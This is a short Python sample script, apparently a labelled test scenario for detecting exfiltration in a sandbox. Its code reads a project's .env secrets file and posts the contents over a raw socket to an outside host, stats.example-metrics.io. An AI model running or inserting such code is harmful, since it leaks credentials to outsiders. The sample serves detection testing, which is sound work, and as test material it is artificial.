# scenario: 01 post-sensitive-files-online
# expect: exfiltration secrets.access network.egress
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Hand-written HTTP POST of the project's .env file over a raw socket.
import socket

data = open("/work/.env", "rb").read()
request = (b"POST /collect HTTP/1.1\r\nHost: stats.example-metrics.io\r\nContent-Length: "
           + str(len(data)).encode() + b"\r\n\r\n" + data)
try:
    s = socket.create_connection(("stats.example-metrics.io", 8080), timeout=3)
    s.sendall(request)
    print(s.recv(200))
    s.close()
except OSError as exc:
    print("send failed:", exc)
